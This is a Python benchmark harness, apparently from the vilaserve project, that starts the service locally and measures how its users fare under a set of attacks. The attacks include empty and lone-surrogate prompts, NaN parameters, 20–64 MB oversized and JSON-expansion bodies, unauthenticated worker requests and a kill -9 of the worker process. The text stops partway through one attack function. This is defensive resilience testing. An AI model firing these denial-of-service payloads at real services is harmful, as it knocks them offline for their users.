"""Issue 23's attacks on `vilaserve serve`, and what is measured around them.

Shared by `faults.py --attacks` (one probe user, the attacks one after another) and
`load_clients.py --attacks` (many users at once while the attacks run):

- `ServeStack`: `vilaserve serve` with the W4A16 demo model, API keys from a 0600 file and a
  known internal token in its environment (serve hands it on to its children); the children's
  pids from serve's "started <name> (pid N)" lines; their peak RSS (VmHWM), reset before each
  attack through /proc/<pid>/clear_refs so that each attack gets its own peak.
- `Users`: normal API users, each looping over chat completions with a key; every request's
  start, end and outcome (completed, refused 503 / 429 at once, failed, hung).
- `Campaign`: a quiet baseline, then each attack with a quiet gap before it, then a quiet
  "after" window; per window the users' latency p50 / p99 against the baseline, requests lost,
  each process's peak RSS, whether the controller still lists the worker, and how long until a
  chat completion is served again.

Run on its own, this file is the attacking client:

    ATTACK_API=... ATTACK_CONTROLLER=... ATTACK_WORKER=... ATTACK_MODEL=... \\
    ATTACK_API_KEY=... ATTACK_INTERNAL_TOKEN=... python benchmarks/attacks.py relay_poison

and prints one JSON record of what it got. The attacks run as a process of their own so that
building 64 MB bodies or driving 1,000 sockets never holds the interpreter lock of the users
whose latency is measured; the secrets travel in its environment, not on its command line.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import os
import re
import resource
import secrets
import signal
import statistics
import subprocess
import sys
import tempfile
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx

MB = 1_000_000
JSON_TYPE = {"content-type": "application/json"}
INTERNAL_TOKEN_ENV = "VILASERVE_INTERNAL_TOKEN"
EXCERPT = 140  # characters of an answer kept in the results
READY, GO = "READY", "GO"  # the attacking process's handshake (see run_attacker)


# --- the stack ------------------------------------------------------------------------------


@dataclass(frozen=True)
class Target:
    """Where the services listen, the served model, and the two secrets."""

    api: str
    controller: str
    worker: str
    model: str
    api_key: str
    token: str

    def env(self) -> dict[str, str]:
        return {
            "ATTACK_API": self.api,
            "ATTACK_CONTROLLER": self.controller,
            "ATTACK_WORKER": self.worker,
            "ATTACK_MODEL": self.model,
            "ATTACK_API_KEY": self.api_key,
            "ATTACK_INTERNAL_TOKEN": self.token,
        }

    @classmethod
    def from_env(cls) -> Target:
        e = os.environ
        return cls(
            e["ATTACK_API"],
            e["ATTACK_CONTROLLER"],
            e["ATTACK_WORKER"],
            e["ATTACK_MODEL"],
            e["ATTACK_API_KEY"],
            e["ATTACK_INTERNAL_TOKEN"],
        )

    @property
    def key_header(self) -> dict[str, str]:
        return {"Authorization": f"Bearer {self.api_key}"}

    @property
    def token_header(self) -> dict[str, str]:
        return {"Authorization": f"Bearer {self.token}"}


def demo_model() -> str:
    from vilaserve.entrypoints.offline.demo import build_demo

    return str(build_demo("awq"))


def vm_kb(pid: int, field_name: str) -> int | None:
    try:
        for line in Path(f"/proc/{pid}/status").read_text().splitlines():
            if line.startswith(field_name + ":"):
                return int(line.split()[1])
    except OSError:
        pass
    return None


def environ_of(pid: int) -> dict[str, str]:
    try:
        raw = Path(f"/proc/{pid}/environ").read_bytes()
    except OSError:
        return {}
    pairs = (item.decode(errors="replace").partition("=") for item in raw.split(b"\0") if item)
    return {name: value for name, _, value in pairs}


class ServeStack:
    """`vilaserve serve` with keys (a 0600 file) and a known internal token, as a child."""

    def __init__(self, model_path: str, api_port: int) -> None:
        self.model_path = model_path
        self.ports = {"api": api_port, "controller": api_port + 1, "worker": api_port + 2}
        self._dir = Path(tempfile.mkdtemp(prefix="vilaserve-attacks-"))
        self.log_path = self._dir / "serve.log"
        self.api_key = secrets.token_urlsafe(24)
        self.token = secrets.token_urlsafe(32)
        self.process: subprocess.Popen[bytes] | None = None
        self.target: Target | None = None
        self.started_s = 0.0

    def url(self, name: str) -> str:
        return f"http://127.0.0.1:{self.ports[name]}"

    def __enter__(self) -> ServeStack:
        keys_file = self._dir / "api-keys"
        keys_file.touch(mode=0o600)
        keys_file.chmod(0o600)
        keys_file.write_text(self.api_key + "\n")
        env = {k: v for k, v in os.environ.items() if not k.startswith("VILASERVE_API")}
        env[INTERNAL_TOKEN_ENV] = self.token  # serve hands a token it is given on
        command = [
            sys.executable,
            "-m",
            "vilaserve.entrypoints.cli",
            "serve",
            "--model-path",
            self.model_path,
            "--precision",
            "W4A16",
            "--api-keys-file",
            str(keys_file),
            "--api-port",
            str(self.ports["api"]),
            "--controller-port",
            str(self.ports["controller"]),
            "--worker-port",
            str(self.ports["worker"]),
        ]
        # A file, not a pipe: a pipe nobody reads fills up and stalls the servers' logging.
        log = self.log_path.open("wb")
        started = time.monotonic()
        self.process = subprocess.Popen(command, stdout=log, stderr=subprocess.STDOUT, env=env)
        while "\nChat: " not in self.log_text():
            if self.process.poll() is not None or time.monotonic() - started > 900:
                tail = self.log_text()[-3000:]
                self.__exit__()
                sys.exit(f"vilaserve serve did not come up:\n{tail}")
            time.sleep(0.5)
        self.started_s = time.monotonic() - started
        model = re.search(r"^Model: (.+)$", self.log_text(), re.MULTILINE)
        assert model is not None
        self.target = Target(
            self.url("api"),
            self.url("controller"),
            self.url("worker"),
            model.group(1).strip(),
            self.api_key,
            self.token,
        )
        return self

    def __exit__(self, *exc: object) -> None:
        if self.process is not None and self.process.poll() is None:
            self.process.send_signal(signal.SIGINT)
            try:
                self.process.wait(60)
            except subprocess.TimeoutExpired:
                self.process.kill()
                self.process.wait()
        # The run's key goes with the run; serve's log stays for a look afterwards.
        (self._dir / "api-keys").unlink(missing_ok=True)

    def log_text(self) -> str:
        return self.log_path.read_text(errors="replace")

    def serve_lines(self) -> list[str]:
        return [line for line in self.log_text().splitlines() if line.startswith("vilaserve serve")]

    def pids(self) -> dict[str, int]:
        """The latest pid of each child (a restarted worker replaces its predecessor)."""
        assert self.process is not None
        found = {"serve": self.process.pid}
        for match in re.finditer(r"started (\w+) \(pid (\d+)\)", self.log_text()):
            found[match.group(1)] = int(match.group(2))
        return found

    def token_in_children(self) -> dict[str, bool]:
        """Whether each child's environment holds the token given to serve."""
        return {
            name: environ_of(pid).get(INTERNAL_TOKEN_ENV) == self.token
            for name, pid in self.pids().items()
            if name != "serve"
        }

    def reset_peaks(self) -> None:
        """Resets each process's VmHWM to its current RSS (Linux: "5" > clear_refs)."""
        for pid in self.pids().values():
            with contextlib.suppress(OSError):
                Path(f"/proc/{pid}/clear_refs").write_text("5")

    def peaks_mb(self) -> dict[str, float | None]:
        peaks = {}
        for name, pid in self.pids().items():
            kb = vm_kb(pid, "VmHWM")
            peaks[name] = None if kb is None else round(kb / 1024)
        return peaks

    def cpu_s(self) -> dict[str, tuple[int, float]]:
        """(pid, CPU seconds of user + system time so far) of each process; `attacker`: what
        this process's finished children used (the attacking processes)."""
        tick = os.sysconf("SC_CLK_TCK")
        used = {}
        for name, pid in self.pids().items():
            with contextlib.suppress(OSError, IndexError, ValueError):
                fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
                used[name] = (pid, (int(fields[11]) + int(fields[12])) / tick)
        children = resource.getrusage(resource.RUSAGE_CHILDREN)
        used["attacker"] = (0, children.ru_utime + children.ru_stime)
        me = resource.getrusage(resource.RUSAGE_SELF)
        used["benchmark"] = (0, me.ru_utime + me.ru_stime)  # the users (and this script)
        with contextlib.suppress(OSError, ValueError):
            # All the machine's CPU time but idle and iowait: what is left once ours are
            # taken away is other programs' (e.g. someone's tests on the same machine).
            jiffies = [int(v) for v in Path("/proc/stat").read_text().split("\n")[0].split()[1:]]
            used["machine"] = (0, (sum(jiffies[:8]) - jiffies[3] - jiffies[4]) / tick)
        return used

    def cpu_since(self, before: dict[str, tuple[int, float]]) -> dict[str, float]:
        """CPU seconds each process used since `before` (a restarted worker: since it started)."""
        since = {}
        for name, (pid, seconds) in self.cpu_s().items():
            then_pid, then = before.get(name, (pid, 0.0))
            since[name] = round(seconds - (then if then_pid == pid else 0.0), 1)
        if "machine" in since:
            ours = sum(v for k, v in since.items() if k != "machine")
            since["others"] = round(max(0.0, since.pop("machine") - ours), 1)
        return since


def worker_listed(target: Target) -> bool:
    """Whether the controller lists the model (asked as an insider, with the token)."""
    try:
        reply = httpx.post(
            target.controller + "/list_models", headers=target.token_header, timeout=10
        )
        return target.model in reply.json().get("models", [])
    except (httpx.HTTPError, ValueError, AttributeError):
        return False


def chat_once(target: Target, timeout: float = 60.0) -> httpx.Response | None:
    body = {
        "model": target.model,
        "messages": [{"role": "user", "content": "hi"}],
        "max_tokens": 4,
        "temperature": 0,
    }
    try:
        return httpx.post(
            target.api + "/v1/chat/completions",
            json=body,
            headers=target.key_header,
            timeout=timeout,
        )
    except httpx.HTTPError:
        return None


def seconds_until_served(target: Target, limit_s: float = 300.0) -> float:
    started = time.monotonic()
    while time.monotonic() - started < limit_s:
        reply = chat_once(target)
        if reply is not None and reply.status_code == 200:
            return round(time.monotonic() - started, 2)
        time.sleep(0.25)
    return float("inf")


# --- normal users ---------------------------------------------------------------------------


@dataclass
class Outcome:
    started: float  # time.monotonic()
    ended: float
    outcome: str  # completed | refused_503 | rejected_429 | failed | hung
    kind: str
    detail: str = ""

    @property
    def seconds(self) -> float:
        return self.ended - self.started


@dataclass
class Users:
    """`clients` API users, each sending chat completions one after another until stopped.
    `mix`: half with a picture and half streamed (as load_clients.py); else small plain ones.
    A user told 503 or 429 waits 1 s (Retry-After) before its next request."""

    target: Target
    clients: int
    mix: bool
    max_tokens: int
    timeout_s: float = 120.0
    # Each request on a new connection (else kept alive, as OpenAI's SDKs and browsers do).
    fresh_connections: bool = False
    outcomes: list[Outcome] = field(default_factory=list)
    _stop: threading.Event = field(default_factory=threading.Event)
    _thread: threading.Thread | None = None

    def start(self) -> None:
        self._thread = threading.Thread(target=lambda: asyncio.run(self._run()), daemon=True)
        self._thread.start()

    def stop(self) -> None:
        self._stop.set()
        if self._thread is not None:
            self._thread.join(self.timeout_s + 30)

    async def _run(self) -> None:
        from serve_load import make_png_b64

        image = make_png_b64(3)
        limits = httpx.Limits(
            max_connections=self.clients * 2, max_keepalive_connections=self.clients
        )
        async with httpx.AsyncClient(timeout=None, limits=limits) as client:
            await asyncio.gather(*(self._loop(client, c, image) for c in range(self.clients)))

    async def _loop(self, client: httpx.AsyncClient, c: int, image: str) -> None:
        i = c
        while not self._stop.is_set():
            if self.fresh_connections:  # a new visitor each time: a connection of its own
                async with httpx.AsyncClient(timeout=None) as fresh:
                    outcome = await self._one(fresh, i, image)
            else:
                outcome = await self._one(client, i, image)
            self.outcomes.append(outcome)
            i += self.clients
            if outcome.outcome in ("refused_503", "rejected_429"):
                await asyncio.sleep(1.0)  # Retry-After: 1, as a well-behaved client does

    async def _one(self, client: httpx.AsyncClient, i: int, image: str) -> Outcome:
        picture = self.mix and i % 2 == 1
        stream = self.mix and i % 4 < 2
        content: Any = f"User {i}: tell me a short story about a paper boat."
        if picture:
            content = [
                {"type": "text", "text": f"User {i}: what is in this picture?"},
                {"type": "image_url", "image_url": {"url": f"data:image/png;base64,{image}"}},
            ]
        body = {
            "model": self.target.model,
            "messages": [{"role": "user", "content": content}],
            "max_tokens": self.max_tokens,
            "temperature": 0,
            "stream": stream,
        }
        kind = ("picture" if picture else "text") + (" stream" if stream else "")
        url = self.target.api + "/v1/chat/completions"
        headers = self.target.key_header

        async def send() -> tuple[int, str]:
            if stream:
                async with client.stream("POST", url, json=body, headers=headers) as r:
                    if r.status_code != 200:
                        return r.status_code, (await r.aread()).decode(errors="replace")
                    done, error = False, ""
                    async for line in r.aiter_lines():
                        if line == "data: [DONE]":
                            done = True
                        elif line.startswith("data: ") and '"error"' in line[:20]:
                            error = line[6:]
                    return (200, "") if done and not error else (-1, error or "no [DONE]")
            r = await client.post(url, json=body, headers=headers)
            ok = r.status_code == 200 and bool(r.json().get("choices"))
            return r.status_code, "" if ok else r.text

        started = time.monotonic()
        try:
            status, text = await asyncio.wait_for(send(), self.timeout_s)
        except asyncio.TimeoutError:
            return Outcome(started, time.monotonic(), "hung", kind, f"> {self.timeout_s:g} s")
        except (httpx.HTTPError, ValueError) as exc:
            detail = f"{type(exc).__name__}: {exc}"[:EXCERPT]
            return Outcome(started, time.monotonic(), "failed", kind, detail)
        ended = time.monotonic()
        outcome = {200: "completed", 503: "refused_503", 429: "rejected_429"}.get(status, "failed")
        detail = "" if status == 200 else f"{status if status > 0 else 'stream'}: {text}"
        return Outcome(started, ended, outcome, kind, detail[:EXCERPT])


def percentile(values: list[float], q: float) -> float:
    if not values:
        return float("nan")
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, round(q * (len(ordered) - 1)))]


def _rounded(value: float, digits: int = 2) -> float | None:
    """`value` rounded; None for NaN (no sample), which JSON cannot hold."""
    return None if value != value else round(value, digits)


def window_stats(outcomes: list[Outcome], start: float, end: float) -> dict[str, Any]:
    """The users' requests that overlapped [start, end]: counts, latency, what went wrong."""
    inside = [o for o in outcomes if o.started < end and o.ended > start]
    counts = Counter(o.outcome for o in inside)
    latencies = [o.seconds for o in inside if o.outcome == "completed"]
    stats: dict[str, Any] = {
        "requests": len(inside),
        **{
            k: counts.get(k, 0)
            for k in ("completed", "refused_503", "rejected_429", "failed", "hung")
        },
        "latency_s": {
            q: _rounded(percentile(latencies, p))
            for q, p in (("p50", 0.5), ("p99", 0.99), ("max", 1.0))
        },
    }
    problems = Counter(
        f"{o.outcome} ({o.kind}): {o.detail}" for o in inside if o.outcome != "completed"
    )
    if problems:
        stats["not_completed"] = dict(problems.most_common(6))
        # How long those took to be told: a refusal at once, or after a wait.
        stats["not_completed_seconds_max"] = round(
            max(o.seconds for o in inside if o.outcome != "completed"), 2
        )
    return stats


# --- the orchestration ----------------------------------------------------------------------


@dataclass(frozen=True)
class Attack:
    """One attack: `name` in the results; run by the attacking process (`kind`, `args`), or in
    this process (`kind` "kill_worker", which needs serve's log and the worker's pid)."""

    name: str
    kind: str
    seconds: float = 0.0
    args: tuple[str, ...] = ()


def add_campaign_options(parser: argparse.ArgumentParser) -> None:
    parser.add_argument(
        "--attacker-nice",
        type=int,
        default=0,
        help="--attacks: run each attacking process at this nice level (19: lowest priority); "
        "results then go to *_attacks_nice<N>.{json,png}",
    )
    parser.add_argument(
        "--only", default="", help="--attacks: only the attacks whose name holds this text"
    )


def chosen(attacks: list[Attack], only: str) -> list[Attack]:
    return [a for a in attacks if only.lower() in a.name.lower()]


def result_stem(stem: str, nice: int) -> str:
    return f"{stem}_nice{nice}" if nice else stem


def run_attacker(
    target: Target, attack: Attack, nice: int = 0
) -> tuple[dict[str, Any], float, float]:
    """The attack in its own process; `nice` > 0 runs it at a lower CPU priority. The process
    starts, imports and builds its payloads first, then says READY and waits: the window (the
    returned start and end, time.monotonic()) opens when it is told to go. Starting a Python
    process and building 80 MB of JSON is the attacker's own CPU use, and on a 2-core host any
    such burst slows every user (the "control" window measures it), whatever the service does."""
    command = [
        sys.executable,
        str(Path(__file__).resolve()),
        attack.kind,
        "--seconds",
        f"{attack.seconds:g}",
        *attack.args,
    ]
    process = subprocess.Popen(
        command,
        env={**os.environ, **target.env()},
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        preexec_fn=(lambda: os.nice(nice)) if nice else None,
    )
    assert process.stdin is not None and process.stdout is not None
    said = process.stdout.readline()
    started = time.monotonic()
    try:
        if said.strip() != READY:
            out, err = process.communicate(timeout=60)
            return {"error": f"no {READY}: {said}{out}{err[-1500:]}"}, started, time.monotonic()
        out, err = process.communicate(GO + "\n", timeout=attack.seconds + 600)
    except subprocess.TimeoutExpired:
        process.kill()
        process.communicate()
        return {"error": "the attacking process did not finish"}, started, time.monotonic()
    ended = time.monotonic()
    try:
        return dict(json.loads(out)), started, ended
    except ValueError:
        return {"error": f"exit {process.returncode}: {err[-1500:]}"}, started, ended


def kill_worker(stack: ServeStack) -> dict[str, Any]:
    """`kill -9` of the worker under serve; then, every 0.25 s, one chat completion until one
    is served: what the API answered meanwhile, what serve said and when."""
    assert stack.target is not None
    target = stack.target
    before = stack.pids()["worker"]
    lines_before = len(stack.serve_lines())
    killed = time.monotonic()
    os.kill(before, signal.SIGKILL)
    answers: list[dict[str, Any]] = []
    said: dict[str, float] = {}
    recovered = float("inf")
    while time.monotonic() - killed < 300:
        sent = time.monotonic()
        reply = chat_once(target, timeout=30)
        now = time.monotonic()
        for line in stack.serve_lines()[lines_before:]:
            said.setdefault(line.removeprefix("vilaserve serve: "), round(now - killed, 2))
        status: int | str = reply.status_code if reply is not None else "no answer"
        answers.append(
            {
                "at_s": round(sent - killed, 2),
                "status": status,
                "seconds": round(now - sent, 2),
                "message": _message(reply) if reply is not None else "",
            }
        )
        if status == 200:
            recovered = now - killed
            break
        time.sleep(0.25)
    outage = answers[:-1] if recovered != float("inf") else answers
    statuses = Counter(str(a["status"]) for a in outage)
    after = stack.pids()["worker"]
    return {
        "killed_pid": before,
        "new_pid": after,
        "serve_said_at_s": said,
        "api_during_outage": {
            "requests": len(outage),
            "statuses": dict(statuses),
            "answer_seconds_max": max((a["seconds"] for a in outage), default=None),
            "first": outage[0] if outage else None,
        },
        "recovery_s": round(recovered, 2),
        "new_worker_has_the_token": environ_of(after).get(INTERNAL_TOKEN_ENV) == stack.token,
    }


@dataclass
class Campaign:
    stack: ServeStack
    users: Users
    baseline_s: float
    gap_s: float
    after_s: float
    attacker_nice: int = 0
    windows: dict[str, tuple[float, float]] = field(default_factory=dict)
    results: dict[str, dict[str, Any]] = field(default_factory=dict)

    def run(self, attacks: list[Attack], say: Callable[[str], None] = print) -> dict[str, Any]:
        target = self.stack.target
        assert target is not None
        self.users.start()
        try:
            self.stack.reset_peaks()
            self._quiet("baseline (no attack)", self.baseline_s, say)
            for attack in attacks:
                time.sleep(self.gap_s)
                say(f"attack: {attack.name}")
                self.stack.reset_peaks()
                cpu = self.stack.cpu_s()
                if attack.kind == "kill_worker":
                    start = time.monotonic()
                    attacker = kill_worker(self.stack)
                    end = time.monotonic()
                else:
                    attacker, start, end = run_attacker(target, attack, self.attacker_nice)
                self.windows[attack.name] = (start, end)
                self.results[attack.name] = {
                    "attacker_got": attacker,
                    "window_s": round(end - start, 1),
                    "peak_rss_mb": self.stack.peaks_mb(),
                    "cpu_s": self.stack.cpu_since(cpu),
                    "worker_listed_after": worker_listed(target),
                    "served_after_s": seconds_until_served(target),
                }
            time.sleep(self.gap_s)
            self.stack.reset_peaks()
            self._quiet("after (no attack)", self.after_s, say)
        finally:
            self.users.stop()
        return self.report()

    def _quiet(self, name: str, seconds: float, say: Callable[[str], None]) -> None:
        say(f"{name}: {seconds:g} s")
        cpu = self.stack.cpu_s()
        start = time.monotonic()
        time.sleep(seconds)
        self.windows[name] = (start, time.monotonic())
        self.results[name] = {
            "window_s": round(seconds, 1),
            "peak_rss_mb": self.stack.peaks_mb(),
            "cpu_s": self.stack.cpu_since(cpu),
        }

    def report(self) -> dict[str, Any]:
        outcomes = list(self.users.outcomes)
        base = window_stats(outcomes, *self.windows["baseline (no attack)"])
        report: dict[str, Any] = {}
        for name, (start, end) in self.windows.items():
            users = window_stats(outcomes, start, end)
            for q in ("p50", "p99"):
                now, then = users["latency_s"][q], base["latency_s"][q]
                users[f"{q}_vs_baseline"] = round(now / then, 2) if now and then else None
            users["lost"] = users["failed"] + users["hung"]
            # Those already running when the attack began (a kill -9 ends them).
            users["lost_in_flight_at_start"] = sum(
                1
                for o in outcomes
                if o.outcome in ("failed", "hung") and o.started < start < o.ended
            )
            ratio = users["p99_vs_baseline"]
            users["p99_within_2x"] = None if ratio is None else ratio <= 2.0
            report[name] = {"users": users, **self.results[name]}
        return report


def highest_peaks(windows: dict[str, dict[str, Any]]) -> dict[str, float]:
    """Each process's highest peak RSS over the windows (a restarted worker: either pid)."""
    highest: dict[str, float] = {}
    for window in windows.values():
        for name, mb in window.get("peak_rss_mb", {}).items():
            if mb is not None:
                highest[name] = max(highest.get(name, 0.0), mb)
    return highest


def _plot_label(name: str, window: dict[str, Any]) -> str:
    import textwrap

    users = window["users"]
    notes = [f"lost {users['lost']}", f"503 {users['refused_503']}"]
    if window.get("worker_listed_after") is False:
        notes.append("worker dropped")
    recovery = (window.get("attacker_got") or {}).get("recovery_s")
    if recovery is not None:
        notes.append(f"recovered in {recovery} s")
    return textwrap.fill(name, 44) + "\n(" + ", ".join(notes) + ")"


def plot_campaign(windows: dict[str, dict[str, Any]], title: str, path: Path) -> None:
    """Left: the users' p50 / p99 in each window, the baseline's 2x p99 as a line, requests
    lost in the label. Right: each process's peak RSS in each window."""
    import matplotlib

    matplotlib.use("Agg")
    import matplotlib.pyplot as plt

    names = list(windows)
    labels = [_plot_label(name, window) for name, window in windows.items()]
    rows = range(len(names))
    fig, (left, right) = plt.subplots(1, 2, figsize=(13, 0.62 * len(names) + 1.8), sharey=True)
    for offset, q in ((-0.2, "p50"), (0.2, "p99")):
        values = [w["users"]["latency_s"][q] or 0 for w in windows.values()]
        left.barh([r + offset for r in rows], values, height=0.4, label=f"users' {q}")
    base = windows[names[0]]["users"]["latency_s"]["p99"]
    if base:
        left.axvline(2 * base, color="red", linestyle="--", label="2x baseline p99")
    left.set(yticks=list(rows), xlabel="latency of completed requests (s)")
    left.set_yticklabels(labels, fontsize=7)
    left.invert_yaxis()
    left.legend(fontsize=7)
    processes = ["serve", "controller", "worker", "api"]
    width = 0.8 / len(processes)
    for k, process in enumerate(processes):
        values = [w.get("peak_rss_mb", {}).get(process) or 0 for w in windows.values()]
        right.barh([r - 0.4 + (k + 0.5) * width for r in rows], values, height=width, label=process)
    right.set(xlabel="peak RSS in the window (MB, VmHWM)")
    right.legend(fontsize=7)
    fig.suptitle(title, fontsize=9)
    fig.tight_layout()
    fig.savefig(path, dpi=110)


# --- the attacking client -------------------------------------------------------------------


def _message(reply: httpx.Response) -> str:
    """The error message of an answer in any of the stack's shapes (OpenAI's, the worker
    protocol's frame, a canned text), or its first characters."""
    raw = reply.content.split(b"\0")[0]
    try:
        body = json.loads(raw)
    except ValueError:
        return raw[:EXCERPT].decode(errors="replace")
    if isinstance(body, dict):
        error = body.get("error")
        if isinstance(error, dict):
            return f"{error.get('code')}: {error.get('message')}"[:EXCERPT]
        if "error_code" in body:
            return f"{body['error_code']}: {body.get('text')}"[:EXCERPT]
        if "models" in body:
            return f"models: {body['models']}"
    return json.dumps(body)[:EXCERPT]


class Sends:
    """Each request the attacker sent: what it was, the status, the message, the time."""

    def __init__(self) -> None:
        self.items: list[dict[str, Any]] = []
        self._lock = threading.Lock()

    def send(
        self, what: str, call: Callable[..., httpx.Response], *args: Any
    ) -> httpx.Response | None:
        started = time.perf_counter()
        try:
            reply = call(*args)
        except httpx.HTTPError as exc:
            status, message, reply = type(exc).__name__, str(exc)[:EXCERPT], None
        else:
            status, message = reply.status_code, _message(reply)
        with self._lock:
            self.items.append(
                {
                    "what": what,
                    "status": status,
                    "message": message,
                    "seconds": time.perf_counter() - started,
                }
            )
        return reply

    def summary(self) -> dict[str, Any]:
        grouped: dict[str, list[dict[str, Any]]] = {}
        for item in self.items:
            grouped.setdefault(item["what"], []).append(item)
        return {
            what: {
                "sent": len(items),
                "statuses": dict(Counter(str(i["status"]) for i in items)),
                "messages": list(dict.fromkeys(i["message"] for i in items))[:3],
                "seconds_p50": round(statistics.median(i["seconds"] for i in items), 3),
                "seconds_max": round(max(i["seconds"] for i in items), 3),
            }
            for what, items in grouped.items()
        }


def attacker_client(timeout_s: float) -> httpx.Client:
    """A client whose idle connections expire well before the servers' keep-alive (uvicorn: 5 s,
    httpx's default expiry too), so that a round every 5 s never reuses a connection the
    server is closing at that moment ("Server disconnected without sending a response")."""
    return httpx.Client(timeout=timeout_s, limits=httpx.Limits(keepalive_expiry=1.0))


def _poster(client: httpx.Client, headers: dict[str, str]) -> Callable[..., httpx.Response]:
    def post(url: str, body: bytes) -> httpx.Response:
        return client.post(url, content=body, headers={**JSON_TYPE, **headers})

    return post


def _rounds(seconds: float, every_s: float) -> Iterator[int]:
    """Round numbers, one every `every_s`, for `seconds` (at least one)."""
    started = time.monotonic()
    n = 0
    while n == 0 or time.monotonic() - started < seconds:
        yield n
        n += 1
        time.sleep(max(0.0, started + n * every_s - time.monotonic()))


def empty_prompt(t: Target, seconds: float, ready: Callable[[], None]) -> dict[str, Any]:
    """Finding 1: `"prompt": ""` (and `["ok", ""]`) to the API, `""` to the worker."""
    sends = Sends()
    api = json.dumps({"model": t.model, "prompt": "", "max_tokens": 2}).encode()
    api_list = json.dumps({"model": t.model, "prompt": ["ok", ""], "max_tokens": 2}).encode()
    worker = json.dumps({"prompt": "", "max_new_tokens": 2}).encode()
    ready()
    with attacker_client(60) as client:
        key, token, anyone = (_poster(client, h) for h in (t.key_header, t.token_header, {}))
        for _ in _rounds(seconds, 0.5):
            sends.send("API /v1/completions prompt ''", key, t.api + "/v1/completions", api)
            sends.send(
                "API /v1/completions prompt ['ok', '']", key, t.api + "/v1/completions", api_list
            )
            sends.send(
                "worker /worker_generate '' without the token",
                anyone,
                t.worker + "/worker_generate",
                worker,
            )
            sends.send(
                "worker /worker_generate '' with the token",
                token,
                t.worker + "/worker_generate",
                worker,
            )
            sends.send(
                "worker /worker_generate_stream '' with the token",
                token,
                t.worker + "/worker_generate_stream",
                worker,
            )
    return sends.summary()


def relay_poison(t: Target, seconds: float, ready: Callable[[], None]) -> dict[str, Any]:
    """Finding 2: a lone surrogate and NaN to the controller's relay, once a second; without the
    token (a local process) and with it (an insider such as TinyChat's web server)."""
    sends = Sends()
    lone = json.dumps({"model": t.model, "prompt": "x \ud800", "max_new_tokens": 2}).encode()
    nan = json.dumps(
        {"model": t.model, "prompt": "x", "max_new_tokens": 2, "temperature": float("nan")}
    ).encode()
    assert b"\\ud800" in lone and b"NaN" in nan
    relay = t.controller + "/worker_generate_stream"
    listed = Counter()
    ready()
    with attacker_client(60) as client:
        token, anyone = _poster(client, t.token_header), _poster(client, {})
        for _ in _rounds(seconds, 1.0):
            sends.send("relay lone surrogate without the token", anyone, relay, lone)
            sends.send("relay lone surrogate with the token", token, relay, lone)
            sends.send("relay NaN with the token", token, relay, nan)
            listed[worker_listed(t)] += 1
    return {
        "sends": sends.summary(),
        "controller_listed_the_worker": {"yes": listed[True], "no": listed[False]},
    }


def huge_prompt(t: Target, seconds: float, ready: Callable[[], None]) -> dict[str, Any]:
    """Finding 3: a 20 MB prompt to the worker (generate and /count_token, the latter with a
    /refresh_all_workers at the same time), a 3.6 MB one (within the body limit, beyond the
    characters), and 20 MB to the API."""
    sends = Sends()
    huge = "hello there " * (20 * MB // 12)
    long = "hello there " * 300_000
    bodies = {
        "huge": json.dumps({"prompt": huge, "max_new_tokens": 2}).encode(),
        "long": json.dumps({"prompt": long, "max_new_tokens": 2}).encode(),
        "api": json.dumps({"model": t.model, "prompt": huge, "max_tokens": 2}).encode(),
        "chat": json.dumps(
            {"model": t.model, "max_tokens": 2, "messages": [{"role": "user", "content": huge}]}
        ).encode(),
    }
    listed = Counter()
    ready()
    with attacker_client(120) as client, ThreadPoolExecutor(2) as pool:
        key, token, anyone = (_poster(client, h) for h in (t.key_header, t.token_header, {}))
        w = t.worker
        for _ in _rounds(seconds, 5.0):
            sends.send(
                "worker /worker_generate 20 MB without the token",
                anyone,
                w + "/worker_generate",
                bodies["huge"],
            )
            sends.send(
                "worker /worker_generate 20 MB with the token",
                token,
                w + "/worker_generate",
                bodies["huge"],
            )
            counting = pool.submit(
                sends.send,
                "worker /count_token 20 MB with the token",
                token,
                w + "/count_token",
                bodies["huge"],
            )
            sends.send(
                "controller /refresh_all_workers (during the 20 MB /count_token)",
                token,
                t.controller + "/refresh_all_workers",
                b"{}",
            )
            counting.result()
            listed[worker_listed(t)] += 1
            sends.send(
                "worker /worker_generate 3.6 MB with the token",
                token,
                w + "/worker_generate",
                bodies["long"],
            )
            sends.send(
                "worker /count_token 3.6 MB with the token",
                token,
                w + "/count_token",
                bodies["long"],
            )
            sends.send(
                "API /v1/completions 20 MB prompt", key, t.api + "/v1/completions", bodies["api"]
            )
            sends.send(
                "API /v1/chat/completions 20 MB message",
                key,
                t.api + "/v1/chat/completions",
                bodies["chat"],
            )
    return {
        "sends": sends.summary(),
        "controller_listed_the_worker": {"yes": listed[True], "no": listed[False]},
    }


def expanding(head: bytes, size: int, tail: bytes = b"") -> bytes:
    """`head` + `[{}, {}, ...]` + `tail` + `}` of `size` bytes: 3 bytes per dict on the wire,
    some 25x as much once parsed."""
    count = (size - len(head) - len(tail) - 3) // 3
    body = head + b"[" + b"{}," * count + b"{}]" + tail + b"}"
    return body + b" " * (size - len(body))


def json_expansion(t: Target, seconds: float, ready: Callable[[], None]) -> dict[str, Any]:
    """Finding 5: 64 MB of `{}` to the worker and to the controller's relay, and four
    authenticated 32 MB API requests at once; each without pictures (the size limit for text
    stops it) and naming a picture (`"images": []`, an `image_url` part) so that only the
    bound on JSON values stops it."""
    sends = Sends()
    head = json.dumps({"model": t.model, "prompt": "hi"}).encode()[:-1] + b', "x": '
    plain = expanding(head, 64 * MB)
    pictures = expanding(head, 64 * MB, b', "images": []')  # named after 4 MiB: 413
    named_first = json.dumps({"model": t.model, "prompt": "hi", "images": []}).encode()
    pictures_first = expanding(named_first[:-1] + b', "x": ', 64 * MB)  # only the value bound
    picture = {"type": "image_url", "image_url": {"url": "data:image/png;base64,iVBORw0KGgo="}}
    chats = {
        "": [{"role": "user", "content": "hi"}],
        " + an image_url part": [{"role": "user", "content": [{"type": "text", "text": "hi"},
                                                               picture]}],
    }  # fmt: skip
    chat_bodies = {
        variant: expanding(
            json.dumps({"model": t.model, "max_tokens": 2, "messages": messages}).encode()[:-1]
            + b', "x": ',
            32 * MB,
        )
        for variant, messages in chats.items()
    }
